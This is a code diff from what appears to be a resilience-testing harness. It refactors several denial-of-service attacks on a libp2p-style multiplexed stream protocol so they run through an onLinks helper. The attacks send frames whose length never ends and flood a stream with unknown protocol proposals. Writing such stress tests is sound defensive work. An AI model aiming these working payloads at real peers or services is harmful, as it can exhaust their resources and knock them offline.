@@ -3,7 +3,7 @@
 import { randomBytes } from 'node:crypto'
 import { setTimeout as sleep } from 'node:timers/promises'
 import type { Attack, AttackContext } from '../attack.ts'
-import { again, flags, frameTypes, header, pour, RawLink, rawSocket } from '../raw-link.ts'
+import { again, flags, frameTypes, header, pour, rawSocket, onLinks } from '../raw-link.ts'
 
 const chunkBytes = 64 * 1024
 /** Bytes of a length that never ends: each says that another one follows. */
@@ -52,13 +52,11 @@ export const negotiationAttacks: readonly Attack[] = [
     inSample: true,
     named: true,
     run: async (context) =>
-      again(context, async () => {
-        const link = await RawLink.dial(context)
+      onLinks(context, async (link) => {
         const stream = link.newStream()
         link.send(header({ type: frameTypes.windowUpdate, flags: flags.syn, stream }))
         const frame = data(stream, endlessLength)
         await link.pour(() => frame)
-        await link.close()
       })
   },
   {
@@ -67,15 +65,13 @@ export const negotiationAttacks: readonly Attack[] = [
     against: ['chat'],
     named: true,
     run: async (context) =>
-      again(context, async () => {
-        const link = await RawLink.dial(context)
+      onLinks(context, async (link) => {
         const stream = link.newStream()
         link.send(header({ type: frameTypes.windowUpdate, flags: flags.syn, stream }))
         link.send(data(stream, Buffer.concat([proposal, line('/ipfs/id/push/1.0.0')])))
         await sleep(100)
         const frame = data(stream, endlessLength)
         await link.pour(() => frame)
-        await link.close()
       })
   },
   {
@@ -99,15 +95,13 @@ export const negotiationAttacks: readonly Attack[] = [
     does: 'proposes one unknown protocol after another in a stream, and reads no answer',
     against: ['chat', 'directory'],
     run: async (context) =>
-      again(context, async () => {
-        const link = await RawLink.dial(context)
+      onLinks(context, async (link) => {
         link.stopReading()
         const stream = link.newStream()
         link.send(header({ type: frameTypes.windowUpdate, flags: flags.syn, stream }))
         link.send(data(stream, proposal))
         const frame = data(stream, Buffer.concat(Array.from({ length: 500 }, (_, index) => line(`/unknown/${index}`))))
         await link.pour(() => frame)
-        await link.close()
       })
   },
   {
